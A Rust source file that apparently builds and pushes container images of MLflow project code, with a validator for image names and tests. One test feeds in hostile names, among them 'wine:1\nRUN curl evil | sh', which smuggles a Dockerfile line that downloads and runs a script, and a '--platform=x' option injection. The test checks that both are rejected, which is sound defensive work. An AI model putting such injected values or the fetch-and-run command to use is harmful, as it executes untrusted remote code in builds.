//! An image with the project's code in it, as MLflow builds it (mlflow/projects/docker.py), by whatever builds here.

use std::path::Path;
use std::process::{Command, Stdio};

use anyhow::{Context as _, anyhow, bail, ensure};

use super::settings::Builder;
use super::source::Temporary;
use crate::images::{Digest, Reference};

/// Where MLflow puts a project's code.
const CODE: &str = "/mlflow/projects/code/";

/// What is built.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Plan {
    /// The image that the code comes upon.
    pub(super) base: String,
    /// The name that it gets and is pushed by.
    pub(super) tag: String,
}

impl Plan {
    /// For a project's image, the repository of the backend configuration and the commit.
    ///
    /// # Errors
    /// Names that are none, or are missing.
    pub(super) fn new(base: Option<&str>, repository: Option<&str>, commit: Option<&str>) -> anyhow::Result<Self> {
        let base = base.context("--build: the project names no docker_env.image to put its code upon")?;
        let repository =
            repository.context("--build: repository-uri is missing in the backend configuration: where to push to")?;
        let tag = match commit.and_then(|commit| commit.get(..7)) {
            Some(version) => format!("{repository}:{version}"),
            None => repository.to_owned(),
        };
        for (what, name) in [("docker_env.image", base), ("repository-uri", &tag)] {
            // A name goes into a Dockerfile and onto a command line.
            name.parse::<Reference>().map_err(|why| anyhow!("{what}: {why}"))?;
            ensure!(
                !name.starts_with('-') && !name.contains(char::is_whitespace),
                "{what}: {name:?} is no image's name"
            );
        }
        Ok(Self { base: base.to_owned(), tag })
    }

    fn dockerfile(&self) -> String {
        format!("FROM {}\nCOPY . {CODE}\nWORKDIR {CODE}\n", self.base)
    }
}

/// Which of the programs is there.
///
/// # Errors
/// None of them.
pub(super) fn builder(wanted: Option<Builder>) -> anyhow::Result<Builder> {
    let runs = |builder: Builder, argument: &str| {
        let mut command = Command::new(program(builder));
        let status = command.arg(argument).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status();
        status.is_ok_and(|status| status.success())
    };
    if let Some(wanted) = wanted {
        ensure!(runs(wanted, "--version"), "--builder: {} does not run here", program(wanted));
        return Ok(wanted);
    }
    // A docker without its engine builds nothing.
    let candidates = [(Builder::Docker, "info"), (Builder::Podman, "--version"), (Builder::Buildah, "--version")];
    let found = candidates.into_iter().find(|(builder, argument)| runs(*builder, argument));
    found.map(|(builder, _)| builder).context("--build needs docker with its engine running, podman, or buildah")
}

const fn program(builder: Builder) -> &'static str {
    match builder {
        Builder::Docker => "docker",
        Builder::Podman => "podman",
        Builder::Buildah => "buildah",
    }
}

/// Builds and pushes; the image's name with its digest, which is what runs however often the tag moves.
///
/// # Errors
/// The program's own, which it has printed.
pub(super) fn build(builder: Builder, plan: &Plan, folder: &Path, insecure: bool) -> anyhow::Result<String> {
    let work = Temporary::new()?;
    let dockerfile = work.path().join("Dockerfile");
    std::fs::write(&dockerfile, plan.dockerfile()).with_context(|| format!("writing {}", dockerfile.display()))?;
    let digest_file = work.path().join("digest");
    let mut build = Command::new(program(builder));
    build.arg("build").arg("--file").arg(&dockerfile).args(["--tag", &plan.tag]).arg(folder);
    run(build)?;
    let mut push = Command::new(program(builder));
    push.arg("push");
    if builder != Builder::Docker {
        push.arg("--digestfile").arg(&digest_file);
        if insecure {
            push.arg("--tls-verify=false");
        }
    }
    push.arg(&plan.tag);
    if builder == Builder::Buildah {
        push.arg(format!("docker://{}", plan.tag));
    }
    run(push)?;
    let digest = if builder == Builder::Docker {
        let mut inspect = Command::new("docker");
        inspect.args(["inspect", "--format", "{{range .RepoDigests}}{{println .}}{{end}}", &plan.tag]);
        let output = inspect.stderr(Stdio::inherit()).output().context("running docker inspect")?;
        let repository = repository(&plan.tag);
        let said = String::from_utf8_lossy(&output.stdout).into_owned();
        let found = said.lines().find_map(|line| line.split_once('@').filter(|(name, _)| *name == repository));
        found.map(|(_, digest)| digest.to_owned()).context("docker inspect names no digest of what was pushed")?
    } else {
        std::fs::read_to_string(&digest_file).with_context(|| format!("reading {}", digest_file.display()))?
    };
    let digest: Digest = digest.trim().parse().map_err(|why| anyhow!("the digest of {}: {why}", plan.tag))?;
    Ok(format!("{}@{digest}", plan.tag))
}

/// The name without its tag.
fn repository(tag: &str) -> &str {
    match tag.rsplit_once(':') {
        Some((repository, version)) if !version.contains('/') => repository,
        _ => tag,
    }
}

/// Runs it; what it prints goes to standard error, where all is that is not the run's own.
fn run(mut command: Command) -> anyhow::Result<()> {
    let name = format!("{command:?}");
    let stderr = std::io::stderr();
    let owned = std::os::fd::AsFd::as_fd(&stderr).try_clone_to_owned().context("standard error")?;
    let status = command.stdin(Stdio::null()).stdout(owned).status().with_context(|| format!("running {name}"))?;
    if !status.success() {
        bail!("{name} failed: {status}");
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_tag_is_the_commits() {
        let plan = Plan::new(Some("wine:1"), Some("127.0.0.1:5000/team/wine"), Some("0123456789abcdef")).unwrap();
        assert_eq!(plan.tag, "127.0.0.1:5000/team/wine:0123456");
        assert_eq!(plan.dockerfile(), "FROM wine:1\nCOPY . /mlflow/projects/code/\nWORKDIR /mlflow/projects/code/\n");
        assert_eq!(Plan::new(Some("wine:1"), Some("team/wine"), None).unwrap().tag, "team/wine");
        assert_eq!(repository("127.0.0.1:5000/team/wine:1"), "127.0.0.1:5000/team/wine");
        assert_eq!(repository("127.0.0.1:5000/wine"), "127.0.0.1:5000/wine");
    }

    #[test]
    fn a_name_is_no_line_of_a_dockerfile() {
        for base in ["wine:1\nRUN curl evil | sh", "wine:1 AS x", "--platform=x", ""] {
            let error = Plan::new(Some(base), Some("team/wine"), None).unwrap_err();
            assert!(error.to_string().starts_with("docker_env.image: "), "{error}");
        }
        assert!(Plan::new(Some("a"), None, None).unwrap_err().to_string().contains("repository-uri is missing"));
        assert!(Plan::new(None, Some("a"), None).unwrap_err().to_string().contains("docker_env.image"));
    }
}
